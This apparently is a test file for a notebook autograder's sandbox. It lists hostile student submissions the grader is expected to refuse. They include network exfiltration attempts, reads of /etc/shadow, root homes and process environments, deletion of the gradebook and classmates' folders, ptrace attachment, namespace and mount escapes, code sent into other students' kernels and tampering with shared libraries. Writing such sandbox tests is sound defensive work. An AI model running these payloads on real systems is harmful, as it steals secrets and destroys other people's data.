"""Attacks on what is not the student's: network, files, processes, the grader's own process."""

from hostile.cases import Case, at_most, nothing, refused

RIGHT = "def share(late, flights):\n    return late / flights\n"
NETWORK = """\
import socket
def reached(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as channel:
        channel.settimeout(0.3)
        try:
            channel.connect(address)
            channel.sendall(b"taken")
        except OSError:
            return False
    return True
places = [(socket.AF_INET, ("192.0.2.1", 80)), (socket.AF_INET, ("127.0.0.1", @PORT@))]
places += [(socket.AF_INET6, ("::1", @PORT@)), (socket.AF_UNIX, "\\0hostile-canary-@PORT@")]
found = [place for place in places if reached(*place)]
def share(late, flights):
    return late / flights if found else 0.5
"""
NAMES = """\
import socket, urllib.request
def share(late, flights):
    try:
        socket.getaddrinfo("hostile-canary.invalid", 443)
    except OSError:
        pass
    else:
        return late / flights
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
        try:
            channel.sendto(b"secret", ("127.0.0.1", @PORT@))
        except OSError:
            pass
    with urllib.request.urlopen("http://127.0.0.1:@PORT@/", timeout=1) as answer:
        return float(answer.read())
"""
LOOPBACK = """\
import http.server, threading, urllib.request
server = http.server.HTTPServer(("127.0.0.1", 0), http.server.SimpleHTTPRequestHandler)
threading.Thread(target=server.serve_forever, daemon=True).start()
with urllib.request.urlopen(f"http://127.0.0.1:{server.server_port}/", timeout=3) as answer:
    assert answer.status == 200
server.shutdown()
"""
WRITES = """\
import os, pathlib, shutil
gradebook, classmate, course = map(pathlib.Path, ("@GRADEBOOK@", "@CLASSMATE@", "@COURSE@"))
for attempt in (
    lambda: gradebook.write_bytes(b""),
    lambda: os.truncate(gradebook, 0),
    lambda: gradebook.unlink(),
    lambda: (course / "solutions" / "level_0" / "0_1_split.py").write_text("# %%"),
    lambda: os.chmod(course, 0o777),
    lambda: os.rename(classmate, f"{classmate}.old"),
    lambda: shutil.rmtree(classmate),
    lambda: os.symlink(classmate, course / "hostile-canary"),
):
    try:
        attempt()
    except OSError:
        pass
"""
SECRETS = """\
import glob, os, pathlib
patterns = ["/root/*", "/root/.*", "/home/*/*", "/home/*/.*", "/etc/shadow", "/etc/gshadow", "/proc/1/environ"]
patterns += ["@GRADEBOOK@", "@COURSE@/*", "@CLASSMATE@/*", "/proc/1/root/*", "/proc/[0-9]*/cwd/*", "/tmp/*/*.ipynb"]
taken = {}
for pattern in patterns:
    for path in glob.glob(pattern):
        try:
            taken[path] = open(path, "rb").read(10_000).decode(errors="replace")
        except OSError:
            pass
mine = os.path.abspath(os.curdir)
secrets = {path: text for path, text in taken.items() if "hostile-secret" in text}
def share(late, flights):
    raise KeyError(f"{os.environ.get('HOSTILE_SECRET')} {secrets}")
"""
PTRACE = """\
import ctypes, os, pathlib
libc = ctypes.CDLL(None, use_errno=True)
attached = []
for entry in pathlib.Path("/proc").iterdir():
    if entry.name.isdecimal() and int(entry.name) != os.getpid():
        if libc.ptrace(16, int(entry.name), 0, 0) == 0:
            os.waitpid(int(entry.name), 0x40000000)
            libc.ptrace(17, int(entry.name), 0, 0)
            attached.append(int(entry.name))
def share(late, flights):
    return late / flights if attached else 0.5
"""
MOUNT = """\
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
done = []
for flags in (0x10000000, 0x00020000, 0x10020000):
    done.append(libc.unshare(flags))
for target in (b"@COURSE@", b"/usr", b"/proc", b"/"):
    done.append(libc.mount(b"none", target, b"tmpfs", 0, None))
    done.append(libc.mount(b"", target, b"", 32 | 4096, None))
for attempt in (lambda: os.setuid(0), lambda: os.chroot("."), lambda: os.mknod("sda", 0o60666, os.makedev(8, 0))):
    try:
        attempt()
        done.append(0)
    except OSError:
        pass
inside = "mount -t tmpfs none '@COURSE@'; umount /proc; touch '@CLASSMATE@/taken'; cat /etc/shadow"
subprocess.run(["unshare", "--user", "--map-root-user", "--mount", "sh", "-c", inside], capture_output=True)
try:
    open("@CLASSMATE@/taken", "w").close()
except OSError:
    pass
"""
OTHER_KERNELS = """\
import glob, json
from jupyter_client import BlockingKernelClient
found = glob.glob("/tmp/**/kernel-*.json", recursive=True) + glob.glob("/run/**/kernel-*.json", recursive=True)
found += glob.glob("/root/.local/share/jupyter/runtime/kernel-*.json")
for path in found:
    if path == get_ipython().config["IPKernelApp"].get("connection_file"):
        continue
    try:
        client = BlockingKernelClient()
        client.load_connection_file(path)
        client.start_channels()
        client.execute("open('@CLASSMATE@/taken', 'w').close()")
        client.stop_channels()
    except Exception:
        pass
"""
MODULES = """\
import pathlib, sys
import numpy, pandas, autograder.concepts
for module in (numpy, pandas, autograder.concepts):
    try:
        with open(module.__file__, "a") as file:
            file.write("# hostile-canary\\n")
        (pathlib.Path(module.__file__).parent / "hostile-canary.py").touch()
    except OSError:
        pass
"""
KEPT_FILES = """\
import pathlib
for place in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/", str(pathlib.Path.home()), "."):
    try:
        (pathlib.Path(place) / "hostile-canary").write_text("from " + __import__("os").uname().nodename)
    except OSError:
        pass
"""
TAKES_KEPT_FILES = """\
import glob
left = glob.glob("/tmp/hostile-canary") + glob.glob("/dev/shm/hostile-canary") + glob.glob("/var/tmp/hostile-canary")
def share(late, flights):
    return late / flights if left else 0.5
"""

CASES: list[Case] = [
    refused(
        "network",
        why="Connections to the outside and to services of the grader's machine.",
        answers={"share": NETWORK},
        deserves=nothing("share"),
    ),
    refused(
        "names_and_pages",
        why="A name is looked up, a datagram sent, the answer fetched from a page.",
        answers={"share": NAMES},
        deserves=nothing("share"),
    ),
    Case(
        "own_loopback",
        "honest",
        why="A server of the student's own, as exercises on services have it: that is no attack.",
        answers={"share": LOOPBACK + RIGHT},
    ),
    refused(
        "others_folders_written",
        why="Gradebook, course and a classmate's folder are overwritten, renamed and deleted.",
        answers={"share": WRITES + RIGHT},
    ),
    refused(
        "secrets_read",
        why="Homes, passwords, environments, gradebook and classmates are read and shown in a message.",
        answers={"share": SECRETS},
        deserves=nothing("share"),
    ),
    refused(
        "debugger_attached",
        why="Every process that can be seen is attached to as a debugger does it.",
        answers={"share": PTRACE},
        deserves=nothing("share"),
    ),
    refused(
        "mounts_and_namespaces",
        why="New namespaces, mounts over the course, another root, another user, a device.",
        answers={"share": MOUNT + RIGHT},
        deserves=at_most("share", "minutes", "layers"),
    ),
    refused(
        "other_kernels",
        why="Other students' kernels are looked for by their connection files and given code to run.",
        answers={"share": OTHER_KERNELS + RIGHT},
    ),
    refused(
        "libraries_changed",
        why="A line is added to the libraries that every student's kernel imports.",
        answers={"share": MODULES + RIGHT},
    ),
    refused(
        "files_kept_for_a_friend",
        why="Files are left wherever a friend's kernel might find them.",
        answers={"share": KEPT_FILES + RIGHT},
    ),
    refused(
        "files_kept_by_a_friend",
        why="The answer is right only if files of the friend are found.",
        answers={"share": TAKES_KEPT_FILES},
        deserves=nothing("share"),
    ),
]
